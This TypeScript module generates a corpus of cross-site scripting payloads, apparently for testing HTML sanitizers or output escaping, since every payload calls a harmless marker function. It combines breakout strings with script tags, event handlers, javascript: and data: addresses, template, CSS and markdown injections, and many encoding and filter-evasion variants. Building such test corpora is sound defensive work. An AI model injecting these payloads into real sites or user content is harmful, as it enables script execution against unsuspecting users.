/**
 * Texts that become a running script wherever some output takes them for markup, an
 * address, a style or a template. Made from shapes, so that the corpus says by itself
 * what it tries: where a text may stand, what it breaks out with, what runs then.
 */

/** What every payload calls when it runs. */
export const callWhenRun = 'ranHere';
const call = `${callWhenRun}(1)`;

/** Out of the places that markup has for text. */
const breakouts = [
  '', '">', "'>", '>', '`>', '"/>', '" ', "' ", '</textarea>', '</title>', '</style>', '</script>', '</noscript>', '</template>',
  '</a>', '</p></div>', '-->', ']]>', '\u0000">', '\\">', '&quot;>', '"\u2028>', '<!--', '<svg>', '<math><mtext><table><mglyph><style>',
];

const elements = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script\n>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<img/src/onerror=${call}>`,
  `<IMG SRC=x ONERROR=&#${'r'.charCodeAt(0)};anHere(1)>`,
  `<image href=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call} />`,
  `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${call}</script></svg>#x">`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe src="javascript:${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe onload=${call}>`,
  `<object data="data:text/html,<script>parent.${call}</script>">`,
  `<embed src="javascript:${call}">`,
  `<video><source onerror=${call}></video>`,
  `<video src=x onerror=${call}>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<button autofocus onfocus=${call}>x`,
  `<x tabindex=1 autofocus onfocus=${call}>x`,
  `<marquee onstart=${call}>x`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<base href="javascript:/${call}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x`,
  `<isindex action="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="&#x6A;avascript:${call}">x</a>`,
  `<a href="jav\tascript:${call}">x</a>`,
  `<math><a xlink:href="javascript:${call}">x</a></math>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<dialog open onclose=${call}>`,
  `<div style="animation:x 1s" onanimationstart=${call}>x</div>`,
  `<div contenteditable autofocus onfocus=${call}>x</div>`,
  `<portal src="javascript:${call}">`,
  `<keygen autofocus onfocus=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${call}\\x3e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `<\u0000script>${call}</script>`,
  `<s\u0000cript>${call}</script>`,
  `<img\u000csrc=x\u000conerror=${call}>`,
];

/** Into an attribute that is already open. */
const attributes = ['onmouseover', 'onfocus', 'onpointerenter', 'onclick', 'onerror', 'onload', 'onanimationend', 'onbeforetoggle', 'style', 'srcdoc']
  .flatMap((name) => ['"', "'", '`', ''].map((quote) => `x${quote} ${name}=${quote}${call}${quote} autofocus tabindex=0 x=${quote}`));

/** Addresses that run where a link leads there. */
export const hostileAddresses: readonly string[] = ['javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', 'java\nscript:', 'java\tscript:', 'java\rscript:', 'javascript&colon;', 'javascript&#58;', 'javascript%3A', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,', 'data:image/svg+xml,<svg onload=', 'view-source:javascript:', 'feed:javascript:', 'blob:', 'filesystem:']
  .flatMap((scheme) => [`${scheme}${call}`, `${scheme}//example.org/%0a${call}`, `${scheme}${call}//https://example.org`]);

/** Into a script, a style, a template or a format. */
const contexts = [
  `';${call};//`, `";${call};//`, `\`;${call};//`, `\${${call}}`, `{{${call}}}`, `{{constructor.constructor('${call}')()}}`, `<%= ${call} %>`, `#{${call}}`, `[[${call}]]`,
  `</script><script>${call}</script>`, `*/${call}/*`, `\\';${call};//`, `x:expression(${call})`, `@import "javascript:${call}";`, `url(javascript:${call})`,
  `background:url("javascript:${call}")`, `-moz-binding:url(data:text/xml,${call})`,
  `{"__html":"<img src=x onerror=${call}>"}`, `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${call}"}}`,
  `{"type":"doc","content":[{"type":"script","content":[{"type":"text","text":"${call}"}]}]}`,
  `["script",{"onerror":"${call}"},0]`, `["http://www.w3.org/2000/svg svg",{"onload":"${call}"}]`,
];

const markdown = [
  `[x](javascript:${call})`, `[x](<javascript:${call}>)`, `[x]( javascript:${call})`, `[x](java\nscript:${call})`, `![x](x" onerror="${call})`, `![x](x"onerror="${call}")`,
  `[x]: javascript:${call}\n[x]`, `<javascript:${call}>`, `<https://x" onmouseover="${call}>`, `\`\`\`\n</code></pre><script>${call}</script>\n\`\`\``,
  `<details><summary>x</summary><img src=x onerror=${call}></details>`, `[a](data:text/html,<script>${call}</script>)`, `[x](https://example.org "onmouseover=${call}")`,
  `$\\href{javascript:${call}}{x}$`, `| <img src=x onerror=${call}> |\n| --- |`, `    <script>${call}</script>`, `~~~html\n<script>${call}</script>`, `[![x](x)](javascript:${call})`,
  `https://example.org/"onmouseover="${call}`, `www.example.org/<script>${call}</script>`,
];

const unique = (texts: readonly string[]): readonly string[] => [...new Set(texts)];

export const scriptPayloads: readonly string[] = unique([
  ...breakouts.flatMap((out) => elements.map((element) => `${out}${element}`)),
  ...elements.map((element) => `${element.toUpperCase()}`),
  ...elements.map((element) => element.replaceAll(' ', '/')),
  ...elements.map((element) => element.replaceAll('=', ' =\n')),
  ...elements.map((element) => `<${element}`),
  ...breakouts.flatMap((out) => contexts.map((context) => `${out}${context}`)),
  ...breakouts.flatMap((out) => markdown.map((mark) => `${out}${mark}`)),
  ...breakouts.flatMap((out) => hostileAddresses.map((address) => `${out}<a href="${address}">x</a>`)),
  ...attributes,
  ...hostileAddresses,
]);
